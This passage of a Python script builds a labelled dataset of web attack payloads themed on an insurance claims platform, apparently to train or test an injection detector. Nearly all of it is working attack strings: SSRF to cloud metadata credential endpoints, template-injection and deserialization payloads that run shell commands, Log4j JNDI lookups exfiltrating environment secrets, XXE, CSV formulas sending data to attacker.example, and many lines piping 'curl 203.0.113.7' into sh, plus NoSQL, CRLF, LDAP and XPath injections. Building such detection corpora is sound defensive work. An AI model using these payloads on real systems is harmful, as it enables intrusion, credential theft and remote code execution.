    ("photo-import-aws-imds-credentials", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("photo-import-aws-user-data", "http://169.254.169.254/latest/user-data"),
    ("photo-import-gcp-metadata-token", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("photo-import-azure-identity-token", "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/"),
    ("photo-import-alibaba-metadata", "http://100.100.100.200/latest/meta-data/"),
    ("photo-import-oci-metadata", "http://169.254.169.254/opc/v2/instance/"),
    ("photo-import-imds+decimal-ip", "http://2852039166/latest/meta-data/"),
    ("photo-import-imds+hex-ip", "http://0xa9fea9fe/latest/meta-data/"),
    ("photo-import-imds+octal-ip", "http://0251.0376.0251.0376/latest/meta-data/"),
    ("photo-import-imds+ipv6-mapped", "http://[::ffff:a9fe:a9fe]/latest/meta-data/"),
    ("webhook-url-actuator+short-ip", "http://127.1:8080/actuator/env"),
    ("webhook-url-elasticsearch-zero-ip", "http://0.0.0.0:9200/_cat/indices?v"),
    ("webhook-url-consul-ipv6-loopback", "http://[::1]:8500/v1/agent/self"),
    ("photo-import-gopher-redis-cron", "gopher://127.0.0.1:6379/_SET%20x%20%22%5Cn%5Cn*%2F1%20*%20*%20*%20*%20curl%20203.0.113.7%2Fc%7Csh%5Cn%5Cn%22%0D%0ACONFIG%20SET%20dir%20%2Fvar%2Fspool%2Fcron%0D%0ACONFIG%20SET%20dbfilename%20root%0D%0ASAVE%0D%0A"),
    ("photo-import-dict-memcached", "dict://127.0.0.1:11211/stats"),
    ("police-report-import-file-scheme", "file:///etc/passwd"),
    ("police-report-import-file-scheme-windows", "file:///C:/Windows/win.ini"),
    ("photo-import-userinfo-confusion", "https://claims.example.com@203.0.113.5/photo.jpg"),
    ("photo-import-fragment-confusion", "http://127.0.0.1:8080#@photos.example.com/IMG_0012.jpg"),
    ("photo-import-backslash-confusion", "http://photos.example.com\\@10.0.0.5/admin"),
    ("photo-import-open-redirect-to-imds", "https://attacker.example/r?to=http://169.254.169.254/latest/meta-data/"),
    ("photo-import-dns-rebinding", "http://rebind.attacker.example/latest/meta-data/iam/security-credentials/"),
    ("photo-import-dns-alias-to-metadata", "http://169-254-169-254.attacker.example/latest/meta-data/"),
    ("webhook-url-kubernetes-secrets", "https://kubernetes.default.svc/api/v1/namespaces/default/secrets"),
    ("webhook-url-docker-api", "http://127.0.0.1:2375/containers/json?all=1"),
    ("broker-site-internal-admin", "http://10.0.12.7:8080/admin/users?role=superuser"),
    ("broker-site-solr-admin", "http://localhost:8983/solr/admin/cores?action=STATUS"),
    ("broker-site-kubelet-pods", "https://10.0.0.1:10250/pods"),
    ("broker-site-etcd-keys", "http://127.0.0.1:2379/v2/keys/?recursive=true"),
    ("bordereau-import-ftp-internal", "ftp://10.0.0.20/claims/exports/"),
    ("directory-sync-ldap-url", "ldap://127.0.0.1:389/dc=insurer,dc=example??sub?(objectClass=*)"),
    ("acord-import-jar-scheme", "jar:http://203.0.113.9/a.zip!/a.txt"),
    ("acord-import-netdoc-scheme", "netdoc:///etc/passwd"),
    ("photo-import-ipv6-full-mapped-loopback", "http://[0:0:0:0:0:ffff:127.0.0.1]:8000/"),
    ("photo-import+unicode-enclosed-digits", "http://\u2460\u2461\u2466.\u24ea.\u24ea.\u2460:8080/"),
    ("photo-import+urlenc-host", "http://%31%32%37%2e%30%2e%30%2e%31:8080/"),
    ("photo-import+hex-octet", "http://0x7f.0.0.1/server-status"),
    ("photo-import+octal-int", "http://017700000001:3000/"),
    ("photo-import+decimal-loopback", "http://2130706433:8080/manage"),
    ("photo-import-imds-with-claim-query", "http://169.254.169.254/latest/meta-data/iam/info?claim=2024-0098-AU"),
    ("photo-import-gcp-short-host", "http://metadata/computeMetadata/v1/instance/attributes/?recursive=true&alt=text"),
    ("photo-import-ecs-task-credentials", "http://169.254.170.2/v2/credentials/"),
    ("photo-import-gopher-smtp", "gopher://127.0.0.1:25/_HELO%20x%0D%0AMAIL%20FROM%3A%3Cclaims%40example.com%3E%0D%0ARCPT%20TO%3A%3Cinsured%40example.com%3E%0D%0ADATA%0D%0ASubject%3A%20Payment%20details%20changed%0D%0A%0D%0APlease%20use%20the%20new%20account.%0D%0A.%0D%0AQUIT%0D%0A"),
    ("letter-html-to-pdf-iframe-imds", "Dear Insured,<iframe src=\"http://169.254.169.254/latest/meta-data/\" width=\"800\" height=\"600\"></iframe>"),
    ("letter-html-to-pdf-attachment-link", "Enclosures: <link rel=\"attachment\" href=\"file:///etc/passwd\">"),
    ("subro-letter-pdf-img-internal", "See photos: <img src=\"http://10.0.0.5:8080/admin/backup.sql\">"),
    ("broker-site-tftp-oob", "tftp://203.0.113.9/claims.cfg"),
    ("plain-loopback", "http://127.0.0.1/"),
    ("plain-localhost-ssh", "http://localhost:22/"),
    ("plain-imds-root", "http://169.254.169.254/"),
    ("plain-ipv6-unspecified", "http://[::]:80/"),
    ("plain-zero-host", "http://0/"),
]

# ---------------------------------------------------------------------------
# Code: SSTI, expression languages, eval, deserialization, XXE, JNDI lookups,
# prototype pollution, spreadsheet formulas
# ---------------------------------------------------------------------------
CODE = [
    ("letter-template-jinja2-cycler-popen", "Dear {{ cycler.__init__.__globals__.os.popen('id').read() }},"),
    ("letter-template-jinja2-config-leak", "Re: claim {{ config.items() }}"),
    ("letter-template-jinja2-lipsum-popen", "Policy POL-2024/00871-B {{ lipsum.__globals__['os'].popen('cat /etc/passwd').read() }}"),
    ("letter-template-jinja2-attr-filter+hex-escape", "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|attr('popen')('id')|attr('read')() }}"),
    ("letter-template-jinja2-catch-warnings-loop", "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__ == 'catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}"),
    ("letter-template-jinja2-self-globals", "Claim {{ self.__init__.__globals__.__builtins__.__import__('os').popen('whoami').read() }}"),
    ("letter-template-mako-python-block", "Policy ${'PL-88120'} <% import os; x = os.popen('id').read() %>${x}"),
    ("letter-template-tornado-import", "{% import subprocess %}{{ subprocess.check_output(['id']) }}"),
    ("letter-template-django-debug-tag", "Dear {{ insured.name }}, {% debug %}"),
    ("letter-template-twig-filter-system", "Renewal notice {{ ['id']|filter('system') }}"),
    ("letter-template-twig-undefined-filter-callback", "{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('cat /etc/hostname')}}"),
    ("letter-template-freemarker-execute", "<#assign ex = \"freemarker.template.utility.Execute\"?new()>${ ex(\"cat /etc/hostname\") }"),
    ("letter-template-velocity-class-tool", "#set($rt = $class.forName('java.lang.Runtime'))#set($p = $rt.getRuntime().exec('id'))$p.waitFor()"),
    ("view-name-thymeleaf-preprocess", "__${T(java.lang.Runtime).getRuntime().exec('touch /tmp/uw')}__::.x"),
    ("uw-rule-spel-runtime-exec", "T(java.lang.Runtime).getRuntime().exec(new String[]{'sh','-c','curl 203.0.113.7|sh'})"),
    ("uw-rule-spel-processbuilder", "prior_claims == 0 and new java.lang.ProcessBuilder({'id'}).start() != null"),
    ("uw-rule-ognl-runtime", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("letter-template-jsp-el-realpath", "${pageContext.request.getSession().getServletContext().getRealPath('/')}"),
    ("letter-template-erb-backtick", "Dear <%= `id` %>,"),
    ("letter-template-erb-file-read", "<%= File.read('/etc/passwd') %>"),
    ("letter-template-smarty-system", "Claim {system('cat /etc/passwd')}"),
    ("letter-template-smarty2-php-tag", "{php}echo `id`;{/php}"),
    ("letter-template-nunjucks-range-constructor", "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")() }}"),
    ("letter-template-pug-interpolation", "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad('child_process').exec('id')}()}"),
    ("letter-template-ejs-require", "<%= process.mainModule.require('child_process').execSync('id') %>"),
    ("letter-template-razor-process-start", "@System.Diagnostics.Process.Start(\"cmd.exe\", \"/c whoami > C:\\\\inetpub\\\\wwwroot\\\\o.txt\")"),
    ("rating-formula-python-eval-os-system", "base * 1.18 + __import__('os').system('id')"),
    ("rating-formula-python-eval-subprocess", "premium * (1 - 0.05) if __import__('subprocess').call(['sh','-c','curl 203.0.113.7|sh']) else premium"),
    ("rating-formula-python-eval-string-concat", "getattr(getattr(__builtins__, '__imp'+'ort__')('o'+'s'), 'sys'+'tem')('id')"),
    ("letter-template-python-format-attr", "Dear {claimant.__init__.__globals__[CONFIG][SECRET_KEY]}"),
    ("uw-rule-node-eval-child-process", "require('child_process').execSync('curl 203.0.113.7/n|sh')"),
    ("uw-rule-node-vm-escape", "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')"),
    ("uw-rule-groovy-execute", "driver_age >= 25 && 'id'.execute().text"),
    ("uw-rule-mvel-reflection", "''.getClass().forName('java.lang.Runtime').getRuntime().exec('id')"),
    ("rating-formula-ruby-eval-backtick", "premium * 1.1; `curl 203.0.113.7/r | sh`"),
    ("rating-formula-php-eval-system", "1.18; system('id');"),
    ("session-blob-python-pickle", "cos\nsystem\n(S'curl -s 203.0.113.7/p|sh'\ntR."),
    ("session-cookie-python-pickle-base64", "Y29zCnN5c3RlbQooUydjdXJsIC1zIDIwMy4wLjExMy43L3B8c2gnCnRSLg=="),
    ("uw-rule-import-pyyaml-apply", "!!python/object/apply:os.system [\"curl 203.0.113.7/y | sh\"]"),
    ("uw-rule-import-pyyaml-subprocess", "claim: !!python/object/apply:subprocess.check_output [[\"id\"]]"),
    ("uw-rule-import-snakeyaml-classloader", "policy: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://203.0.113.7/y.jar\"]]]]"),
    ("claim-json-fastjson-autotype-jndi", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://203.0.113.12:1389/Claim\",\"autoCommit\":true}"),
    ("claim-json-jackson-default-typing-jndi", "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"rmi://203.0.113.12:1099/Obj\",\"autoCommit\":true}]"),
    ("claim-json-jsonnet-typenamehandling", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList, mscorlib\",\"$values\":[\"cmd\",\"/c whoami\"]},\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"}}"),
    ("upload-meta-php-unserialize-pop", "O:14:\"TempUploadFile\":1:{s:8:\"filename\";s:23:\"/var/www/html/.htaccess\";}"),
    ("claim-json-node-serialize-iife", "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('curl 203.0.113.7/s|sh')}()\"}"),
    ("acord-xml-xxe-file", "<?xml version=\"1.0\"?>\n<!DOCTYPE claim [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>\n<claim><policyNo>POL-2024/00871-B</policyNo><narrative>&x;</narrative></claim>"),
    ("acord-xml-xxe-parameter-entity-oob", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % d SYSTEM \"http://203.0.113.12/x.dtd\"> %d;]><r>&exfil;</r>"),
    ("acord-xml-xxe-ssrf-imds", "<!DOCTYPE acord [<!ENTITY m SYSTEM \"http://169.254.169.254/latest/meta-data/iam/security-credentials/\">]><ACORD><InsuranceSvcRq><RqUID>&m;</RqUID></InsuranceSvcRq></ACORD>"),
    ("acord-xml-xinclude-text", "<claim xmlns:xi=\"http://www.w3.org/2001/XInclude\"><note><xi:include parse=\"text\" href=\"file:///etc/hostname\"/></note></claim>"),
    ("photo-upload-svg-xxe", "<?xml version=\"1.0\" standalone=\"yes\"?><!DOCTYPE svg [<!ENTITY h SYSTEM \"file:///etc/hostname\">]><svg xmlns=\"http://www.w3.org/2000/svg\" width=\"200\" height=\"40\"><text x=\"0\" y=\"20\">&h;</text></svg>"),
    ("acord-xml-entity-expansion", "<!DOCTYPE b [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\">]><claim>&d;&d;&d;&d;</claim>"),
    ("acord-xml-xxe-expect", "<!DOCTYPE c [<!ENTITY e SYSTEM \"expect://id\">]><c>&e;</c>"),
    ("acord-xml-xxe-php-filter", "<!DOCTYPE c [<!ENTITY e SYSTEM \"php://filter/convert.base64-encode/resource=/var/www/html/config.php\">]><c>&e;</c>"),
    ("adjuster-note-log4j-jndi-ldap", "Insd upset re: delay ${jndi:ldap://203.0.113.20:1389/a}"),
    ("claim-ref-log4j-lower-lookup-obfuscation", "CLM-77120 ${${lower:j}${lower:n}${lower:d}${lower:i}:${lower:r}mi://203.0.113.20:1099/x}"),
    ("fnol-narrative-log4j-default-value-obfuscation", "Deer on County Rd 12 ${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://198.51.100.4/o}"),
    ("broker-name-log4j-env-dns-exfil", "Northside ${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.oob.attacker.example/a}"),
    ("policy-ref-log4j-sys-lookup", "POL-558812 ${jndi:ldap://${sys:java.version}.oob.attacker.example/v}"),
    ("claim-ref-log4j-date-lookup-obfuscation", "2024-0098-AU ${j${date:'n'}di:ldap://203.0.113.20/d}"),
    ("adjuster-note-log4j+urlenc", "%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.20%3A1389%2Fu%7D"),
    ("claim-json-proto-pollution-isadmin", "{\"claimNo\":\"2024-0098-AU\",\"__proto__\":{\"isAdmin\":true}}"),
    ("uw-settings-constructor-prototype-pollution", "{\"constructor\":{\"prototype\":{\"approvalLimit\":10000000}}}"),
    ("claim-form-querystring-proto-pollution", "claim[__proto__][role]=siu_manager"),
    ("claim-json-proto-pollution-lodash-template-sourceurl", "{\"__proto__\":{\"sourceURL\":\"\\u000areturn process.mainModule.require('child_process').execSync('id')//\"}}"),
    ("claim-json-proto-pollution-ejs-outputfunctionname", "{\"__proto__\":{\"outputFunctionName\":\"x;process.mainModule.require('child_process').execSync('curl 203.0.113.7/e|sh');x\"}}"),
    ("uw-rule-path-dotted-proto", "__proto__.uwOverride=true"),
    ("csv-export-hyperlink-exfil", "=HYPERLINK(\"https://attacker.example/?d=\"&A2&B2,\"View claim\")"),
    ("csv-export-dde-powershell", "=cmd|' /C powershell -nop -w hidden iwr 203.0.113.7/x.ps1|iex'!A0"),
    ("csv-export-importxml-exfil", "+IMPORTXML(CONCAT(\"https://attacker.example/?\",A1:D1),\"//a\")"),
    ("csv-export-webservice-exfil", "=WEBSERVICE(\"https://attacker.example/l?\"&C4)"),
    ("letter-template-jinja2-lipsum+unicode-escape", "{{ lipsum|attr(\"\\u005f\\u005fglobals\\u005f\\u005f\") }}"),
    ("plain-erb-system", "<%= system('id') %>"),
    ("plain-el-runtime-exec", "${T(java.lang.Runtime).getRuntime().exec('id')}"),
    ("plain-jndi-ldap", "${jndi:ldap://203.0.113.20/p}"),
    ("plain-proto-admin", "{\"__proto__\":{\"admin\":true}}"),
    ("plain-dde-formula", "=1+cmd|' /C calc'!A0"),
    ("plain-jinja2-popen", "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read() }}"),
]

# ---------------------------------------------------------------------------
# NoSQL injection: value merged into a MongoDB / Couch / Elasticsearch query
# ---------------------------------------------------------------------------
NOSQLI = [
    ("portal-login-json-ne", "{\"adjuster_id\": \"C-3391\", \"password\": {\"$ne\": null}}"),
    ("portal-login-querystring-ne", "adjuster_id=C-3391&password[$ne]=x"),
    ("policy-search-querystring-regex", "policy_no[$regex]=^POL-2024&policy_no[$options]=i"),
    ("claim-filter-json-gt-empty", "{\"claim_no\": {\"$gt\": \"\"}}"),
    ("claim-filter-where-sleep", "{\"$where\": \"this.premium > 0 || sleep(5000)\"}"),
    ("claim-lookup-where-js-breakout", "2024-0098-AU'; return true; var x='"),
    ("claim-lookup-where-js-tautology", "x' || '1'=='1"),
    ("portal-login-regex-blind", "{\"username\": \"uwadmin\", \"password\": {\"$regex\": \"^k\"}}"),
    ("portal-login-in-gt", "{\"email\": {\"$in\": [\"claims@example.com\", \"uw@example.com\"]}, \"password\": {\"$gt\": \"\"}}"),
    ("policy-filter-or-empty", "{\"policy_no\": \"POL-1\", \"$or\": [{}, {\"a\": \"a\"}]}"),
    ("report-pipeline-stage-lookup-users", "{\"$lookup\": {\"from\": \"users\", \"localField\": \"adjuster_id\", \"foreignField\": \"_id\", \"as\": \"u\"}}"),
    ("claim-filter-expr-function-js", "{\"$expr\": {\"$function\": {\"body\": \"function(){ sleep(3000); return true; }\", \"args\": [], \"lang\": \"js\"}}}"),
    ("payment-filter-querystring-gte-ne", "paid_amount[$gte]=0&adjuster_id[$ne]=C-3391"),
    ("claim-list-filter-param-json", "filter={\"status\":{\"$ne\":\"closed\"},\"ssn\":{\"$exists\":true}}"),
    ("claim-search-es-query-string-field-probe", "water damage OR _exists_:insured_ssn"),
    ("claim-search-es-body-match-all", "{\"query\": {\"match_all\": {}}, \"size\": 10000}"),
    ("doc-index-couchdb-mango-gt-null", "{\"selector\": {\"_id\": {\"$gt\": null}}, \"fields\": [\"ssn\", \"dob\"]}"),
    ("claimant-search-regex-redos", "{\"claimant\": {\"$regex\": \"^(a+)+$\"}}"),
    ("portal-login-querystring-ne+urlenc", "adjuster_id=C-3391&password%5B%24ne%5D=x"),
    ("portal-login-json-ne+json-unicode-escape", "{\"username\": \"uwadmin\", \"password\": {\"\\u0024ne\": null}}"),
    ("claim-filter-where-busy-loop", "{\"$where\": \"var d=new Date(); while(new Date()-d<4000){} return true;\"}"),
    ("portal-login-nin-empty", "{\"username\":\"uwadmin\",\"password\":{\"$nin\":[\"\"]}}"),
    ("claim-search-es-query-string-wildcard-ssn", "POL-2024* OR insured_ssn:*"),
    ("plain-gt-empty", "{\"$gt\": \"\"}"),
    ("plain-querystring-ne", "[$ne]=1"),
    ("plain-js-or-comment", "' || 1==1//"),
]

# ---------------------------------------------------------------------------
# CRLF: header splitting, log forging, mail header injection
# ---------------------------------------------------------------------------
CRLF = [
    ("doc-download-content-disposition-set-cookie", "estimate_v2.pdf\r\nSet-Cookie: session=fake-fixated-0001; Path=/"),
    ("doc-download-content-disposition+urlenc", "estimate_v2.pdf%0d%0aSet-Cookie:%20role=underwriter_manager"),
    ("return-url-response-splitting+urlenc", "/claims/2024-0098-AU%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>"),
    ("return-url-location-override", "/portal/home\r\nLocation: https://attacker.example/login"),
    ("adjuster-note-log-forging-payment", "Left VM x2; no resp.\n2024-03-14T10:02:11Z INFO payment.approved claim=2024-0098-AU amount=48000.00 approver=sup.jwilliams"),
    ("claim-ref-log-forging-cr-only", "CLM-77120\r[AUDIT] reserve change approved by manager id=7"),
    ("policy-ref-log-forging+urlenc", "POL-2024/00871-B%0a[INFO] 2024-03-14 10:00:01 user=uwadmin action=override_decline rule=UW-20"),
    ("broker-email-subject-bcc", "Renewal 2025 loss runs\r\nBcc: dump@attacker.example"),
    ("broker-email-to-cc-injection", "broker@example.com\nCc: everyone@attacker.example"),
    ("claim-email-subject-body-injection", "Claim update\r\nContent-Type: text/html\r\n\r\n<a href=\"https://attacker.example/pay\">Update bank details</a>"),
    ("broker-email-from-reply-to", "Rob Adams <rob@example.com>\r\nReply-To: payments@attacker.example"),
    ("claim-email-smtp-command-smuggling", "Claim 2024-0098-AU\r\n.\r\nMAIL FROM:<ceo@example.com>\r\nRCPT TO:<finance@example.com>\r\nDATA\r\nSubject: urgent wire\r\n"),
    ("doc-download-header+utf8-truncation", "estimate.pdf%E5%98%8A%E5%98%8DSet-Cookie:%20x=1"),
    ("photo-header+json-escape", "IMG_0012.jpg\\r\\nX-Forwarded-For: 127.0.0.1"),
    ("claim-ref-header-cors-injection", "2024-0098-AU\r\nAccess-Control-Allow-Origin: https://attacker.example\r\nAccess-Control-Allow-Credentials: true"),
    ("claim-ref-header-csp-override", "CLM-77120\r\nContent-Security-Policy: script-src * 'unsafe-inline'"),
    ("return-url-cache-poisoning+urlenc", "/policies/PL-88120%0d%0aCache-Control:%20public,%20max-age=31536000%0d%0aX-Injected:%201"),
    ("adjuster-note-terminal-escape-log", "CLM-4471\x1b[2J\x1b[1;1HAll claims reconciled - no exceptions"),
    ("adjuster-note-syslog-forging", "Insd upset re: delay\n<13>Mar 14 10:00:00 claims-app auth: user uwadmin logged in from 10.0.0.5"),
    ("doc-download-header+double-urlenc", "estimate.pdf%250d%250aSet-Cookie:%2520sid=fake"),
    ("photo-download-lf-content-type", "IMG_4471.jpg\nContent-Type: text/html\n\n<script>alert(1)</script>"),
    ("broker-email-to+urlenc", "broker@example.com%0aBcc:%20list@attacker.example"),
    ("photo-proxy-request-splitting", "/photos/1.jpg HTTP/1.1\r\nHost: internal-admin\r\n\r\nGET /admin/delete?all=1"),
    ("cache-key-redis-crlf", "CLM-77120\r\nFLUSHALL\r\n"),
    ("cache-key-memcached-crlf", "claim:77120\r\nset session:admin 0 3600 4\r\ntrue\r\n"),
    ("fnol-email-subject-multiline-bcc", "Water damage — Apt 4B\r\nX-Priority: 1\r\nBcc: leak@attacker.example"),
    ("csv-audit-log-forged-row", "Supp #2 approved\n2024-03-14,uwadmin,reserve_change,CLM-77120,0.00,approved"),
    ("plain-urlenc-set-cookie", "%0d%0aSet-Cookie:%20a=b"),
    ("plain-crlf-header", "\r\nX-Injected: 1"),
    ("plain-lf-header+urlenc", "%0aInjected-Header:%20true"),
    ("plain-location+urlenc", "%0d%0aLocation:%20https://attacker.example"),
]

# ---------------------------------------------------------------------------
# LDAP filter / XPath injection
# ---------------------------------------------------------------------------
LDAP_XPATH = [
    ("adjuster-lookup-ldap-filter-breakout", "*)(uid=*))(|(uid=*"),
    ("adjuster-lookup-ldap-group-probe", "jwilliams)(|(memberOf=cn=claims-supervisors,ou=groups,dc=insurer,dc=example)"),
    ("portal-login-ldap-and-true", "uwadmin)(&)"),
    ("adjuster-lookup-ldap-objectclass-wildcard", "*)(objectClass=*"),
    ("adjuster-lookup-ldap-blind-attribute", "jwilliams)(telephoneNumber=5*"),
    ("portal-login-ldap-blind-password", "uwadmin)(userPassword=k*"),
    ("adjuster-lookup-ldap-null-byte+urlenc", "*))%00"),
    ("adjuster-lookup-ldap-or-description", "adj*)(|(description=*SIU*)(title=*manager*)"),
    ("adjuster-lookup-ldap-breakout+urlenc", "%2A%29%28uid%3D%2A%29%29%28%7C%28uid%3D%2A"),
    ("adjuster-lookup-ad-disabled-accounts", "*)(|(sAMAccountName=*)(userAccountControl:1.2.840.113556.1.4.803:=2)"),
    ("broker-directory-ldap-mail-wildcard", "Northside*)(mail=*@example.com"),
    ("policy-xpath-tautology", "POL-88120' or 1=1 or 'a'='b"),
    ("policy-xpath-union-nodes", "'] | //user/* | //policy[@id='"),
    ("policy-xpath-blind-root-name", "x' or name(/*[1])='claims' or 'a'='b"),
    ("portal-login-xpath-password-length", "uwadmin' or string-length(//user[name='uwadmin']/password)>8 or 'a'='b"),
    ("portal-login-xpath-substring-blind", "' or substring(//user[1]/password,1,1)='k' or ''='"),
    ("policy-xpath-count-probe", "' or count(//policy)>100 or ''='"),
    ("acord-xpath2-doc-oob", "ACORD' and doc('http://203.0.113.12/x.xml') or '1'='1"),
    ("policy-xpath-contains-text-ssn", "x'] | //*[contains(text(),'SSN')] | //a['"),
    ("plain-xpath-empty-tautology", "' or ''='"),
    ("plain-ldap-and-wildcard", "*)(&"),
    ("plain-ldap-or-wildcard", "*)(|(cn=*"),
]

# ---------------------------------------------------------------------------
# Computed values: hand-written base payloads in domain notation, passed
# through an encoding (these are the only non-literal attack values).
# ---------------------------------------------------------------------------
ENCODED_BASES = [
    ("sqli", "claim-lookup-union", "CLM-2024-0412' UNION SELECT iban, account_holder FROM payees-- -", "urlenc"),
    ("xss", "adjuster-note-img-onerror", "Supp #3 <img src=x onerror=alert(document.cookie)>", "urlenc"),
    ("xss", "fnol-narrative-svg-onload", "Tree fell on carport <svg onload=alert(document.domain)>", "html-entities-decimal"),
    ("xss", "broker-website-javascript-url", "javascript:alert(document.cookie)", "html-entities-hex"),
    ("cmdi", "doc-convert-semicolon-curl", "IMG_0013.jpg; curl http://203.0.113.7/q | sh", "urlenc"),
    ("cmdi", "claim-export-dollar-paren", "CLM-21$(cat /etc/passwd | nc 203.0.113.7 9008)", "double-urlenc"),
    ("traversal", "doc-download-claim-folder-escape", "claims/2024/CLM-88120/../../../../../../etc/passwd", "urlenc-all"),
    ("traversal", "doc-download-k8s-token", "../../../../../var/run/secrets/kubernetes.io/serviceaccount/namespace", "double-urlenc"),
    ("ssrf", "photo-import-imds", "http://169.254.169.254/latest/meta-data/iam/security-credentials/claims-role", "urlenc-all"),
    ("code", "adjuster-note-log4j-jndi-rmi", "${jndi:rmi://203.0.113.20:1099/claims}", "double-urlenc"),
    ("nosqli", "portal-login-querystring-regex", "adjuster_id=C-3391&password[$regex]=^a", "urlenc"),
    ("crlf", "doc-download-content-disposition", "claim_2024-0098.pdf\r\nSet-Cookie: uwrole=manager", "urlenc"),
    ("ldap-xpath", "portal-login-xpath-tautology", "uwadmin' or '1'='1", "urlenc"),
]


def enc_urlenc(s):
    return quote(s, safe="/")


def enc_double_urlenc(s):
    return quote(quote(s, safe=""), safe="")


def enc_urlenc_all(s):
    return "".join(f"%{b:02X}" for b in s.encode("utf-8"))


def enc_html_dec(s):
    out = []
    for ch in s:
        if ch.isalnum() or ch == " ":
            out.append(ch)
        else:
            out.append(f"&#{ord(ch)};")
    return "".join(out)


def enc_html_hex(s):
    # javascript: URLs survive entity decoding inside href attributes
    return "".join(f"&#x{ord(ch):x};" for ch in s)


ENCODERS = {
    "urlenc": enc_urlenc,
    "double-urlenc": enc_double_urlenc,
    "urlenc-all": enc_urlenc_all,
    "html-entities-decimal": enc_html_dec,
    "html-entities-hex": enc_html_hex,
}


def encoded_values():
    rows = []
    for cat, cls, base, enc in ENCODED_BASES:
        v = ENCODERS[enc](base)
        if cat == "xss" and enc.startswith("html"):
            # entity-encoded payload only works inside an attribute value
            if cls.endswith("javascript-url"):
                v = f"<a href=\"{v}\">broker site</a>"
            else:
                v = f"<iframe srcdoc=\"{v}\"></iframe>"
        rows.append((cat, f"{cls}+{enc}", v))
    return rows


CATEGORIES = [
    ("sqli", SQLI),
    ("xss", XSS),
    ("cmdi", CMDI),
    ("traversal", TRAVERSAL),
    ("ssrf", SSRF),
    ("code", CODE),
    ("nosqli", NOSQLI),
    ("crlf", CRLF),
    ("ldap-xpath", LDAP_XPATH),
]


def main():
    rng = random.Random(SEED)
    rows = []
    for cat, items in CATEGORIES:
        for cls, v in items:
            rows.append((cat, cls, v, True))
    for cat, cls, v in encoded_values():
        rows.append((cat, cls, v, False))

    # stable category grouping, deterministic shuffle inside each category
    order = [c for c, _ in CATEGORIES]
    grouped = []
    for cat in order:
        part = [r for r in rows if r[0] == cat]
        rng.shuffle(part)
        grouped.extend(part)

    seen = set()
    for cat, cls, v, _ in grouped:
        if not isinstance(v, str) or not v or len(v) > 1800:
            raise SystemExit(f"bad value in {cat}/{cls}: {v!r}")
        if v in seen:
            raise SystemExit(f"duplicate value in {cat}/{cls}: {v!r}")
        seen.add(v)

    out = Path(__file__).with_name("attacks.jsonl")
    with open(out, "w", encoding="utf-8", newline="\n") as fh:
        for i, (cat, cls, v, _) in enumerate(grouped, 1):
            obj = {"id": f"{PREFIX}-{i:05d}", "category": cat, "class": cls, "label": "attack", "value": v}
            fh.write(json.dumps(obj, ensure_ascii=False) + "\n")

    total = lit_total = plain = enc = 0
    for cat in order:
        part = [r for r in grouped if r[0] == cat]
        n_lit = sum(1 for r in part if r[3])
        total += len(part)
        lit_total += n_lit
        plain += sum(1 for r in part if r[1].startswith("plain-"))
        enc += sum(1 for r in part if "+" in r[1])
        print(f"{cat:11s} {len(part):4d}  literals {n_lit}")
    print(f"{'TOTAL':11s} {total:4d}  literals {lit_total} ({100 * lit_total / total:.1f}%)"
          f"  plain {plain}  encoded {enc}")


if __name__ == "__main__":
    main()
